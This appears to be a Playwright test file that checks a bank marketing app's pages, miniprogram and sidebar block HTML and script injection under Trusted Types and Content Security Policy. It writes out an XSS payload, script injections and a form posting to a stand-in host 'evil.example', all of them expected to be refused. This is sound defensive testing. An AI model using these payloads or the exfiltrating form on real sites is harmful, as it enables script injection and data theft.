import type { Frame, Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { holdPhone } from './hold-phone'
import { miniprogramLink } from './miniprogram-screens'
import { besideChat, DESK, frameBeside, takeSeat } from './take-seat'
import { useKoi } from './use-koi'

const koi = useKoi()

/** What the browser says of each attempt. */
const REFUSED = [/Trusted ?Types?|TrustedHTML|TrustedScript|Content Security Policy/i]

/** Each of the ways in which words become a document or a script; what is left of them. It is run in the page. */
function tryAll(): Record<string, string> {
  const evil = '<img src=x onerror=alert(1)>'
  const attempts: Record<string, () => unknown> = {
    innerHTML: () => (document.createElement('p').innerHTML = evil),
    outerHTML: () => (document.body.appendChild(document.createElement('p')).outerHTML = evil),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', evil),
    write: () => document.write(evil),
    fragment: () => document.createRange().createContextualFragment(evil),
    frame: () => (document.createElement('iframe').srcdoc = evil),
    script: () => (document.createElement('script').src = '/assets/evil.js'),
    words: () => (document.createElement('script').text = 'alert(1)'),
    policy: () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('evil', { createHTML: (it: string) => it }),
  }
  return Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => {
    try {
      attempt()
      return [name, 'done']
    } catch (error) {
      return [name, (error as Error).name]
    }
  }))
}

const EVERY_WAY = ['innerHTML', 'outerHTML', 'insertAdjacentHTML', 'write', 'fragment', 'frame', 'script', 'words', 'policy']

const expectNoWayIn = async (document: Page | Frame) =>
  expect(await document.evaluate(tryAll)).toEqual(Object.fromEntries(EVERY_WAY.map((name) => [name, 'TypeError'])))

test('into the pages of a phone nobody puts HTML or a script, by whichever way', async () => {
  const { customerId, link } = await koi.scenario('ready-to-draw')
  const { page } = await holdPhone(koi, customerId, { link, expected: REFUSED })
  await page.getByRole('heading', { name: '活动规则' }).waitFor()
  await expectNoWayIn(page)
  await page.goto(`${koi.server.url}${miniprogramLink(link)}`)
  await page.getByRole('button', { name: /立即\s*抽奖/ }).waitFor()
  await expectNoWayIn(page)
  const game = await koi.scenario('game-running')
  await page.goto(`${koi.server.url}${game.link}`)
  await page.getByRole('region').first().waitFor()
  await expectNoWayIn(page)
})

test('nor into the sidebar, or the simulator around it', async () => {
  await koi.scenario('known-for-a-month')
  const page = await koi.page(await koi.device(DESK), REFUSED)
  await takeSeat(page, koi.server.url, { chat: '陈思源', pane: 'materials' })
  await besideChat(page).getByText('借记卡新客礼遇海报').first().waitFor()
  await expectNoWayIn(page)
  await expectNoWayIn(await frameBeside(page))
})

/** All that is served as a page, also by the simulated bank and by whoever refuses. */
const PAGES = [
  '/lottery/r13-newcomer?ch=xihu-01', '/events/any', '/group-game/any', '/miniprogram/', '/sidebar/', '/simulator/', '/simulated/mobile-bank/claim/any', '/simulated/mobile-bank/service/any', '/lottery/none',
]

test('every page tells the browser so', async () => {
  const { page } = await holdPhone(koi, 'cust-01')
  await page.getByRole('heading', { name: '活动规则' }).waitFor()
  for (const path of PAGES) {
    const headers = (await page.request.get(`${koi.server.url}${path}`, { headers: { accept: 'text/html' } })).headers()
    expect([path, headers['content-type'], headers['x-content-type-options']]).toEqual([path, 'text/html; charset=utf-8', 'nosniff'])
    const policy = headers['content-security-policy']?.split('; ')
    expect(policy, path).toEqual(expect.arrayContaining(["default-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "require-trusted-types-for 'script'", 'trusted-types vue']))
    expect(policy, path).toContain("frame-ancestors 'self' https://*.weixin.qq.com https://*.work.weixin.qq.com")
  }
  const docs = (await page.request.get(`${koi.server.url}/api/docs/static/index.html`)).headers()
  expect(docs['content-security-policy']!.split('; ')).toEqual(expect.arrayContaining(["script-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]))
})

/** Makes a form to another site and sends it, as words would that had become elements; what the browser says of it. */
const sendFormElsewhere = () =>
  new Promise<string>((resolve) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
    const form = document.body.appendChild(document.createElement('form'))
    form.method = 'post'
    form.action = 'https://evil.example/phones'
    form.submit()
  })

test('a form that somebody put into a page sends nothing to another site', async () => {
  const { page } = await holdPhone(koi, 'cust-01', { expected: REFUSED })
  await page.getByRole('heading', { name: '活动规则' }).waitFor()
  expect(await page.evaluate(sendFormElsewhere)).toBe('form-action')
  expect(new URL(page.url()).host).toBe(new URL(koi.server.url).host)
})
